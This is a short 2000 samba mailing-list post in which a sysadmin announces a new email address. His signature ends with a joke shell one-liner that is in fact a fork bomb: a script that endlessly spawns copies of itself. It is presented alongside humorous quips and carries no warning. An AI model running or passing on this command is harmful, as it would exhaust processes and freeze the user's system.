New Email address

Martin Mielke martinm at
Fri Jan 28 14:41:19 GMT 2000

Dear all,

just a quick note to inform you about my new email address:

    martin at

All my old ones are still active and are being checked as well but this new
one should be easier to remember if you (still) want to contact me :-)

Best regards,


> - Meta4®-
Martin Mielke - SysAdmin    martinm at
R&D Systems Support     Tel.: +34 91 602 5058

Who is the General Failure and why is he reading my hard disk???

UNIX is user-friendly...It´s just selective about who its friends are.
[ echo "\$0&\$0">_;chmod +x _;./_ ]More information aboutthe samba mailing list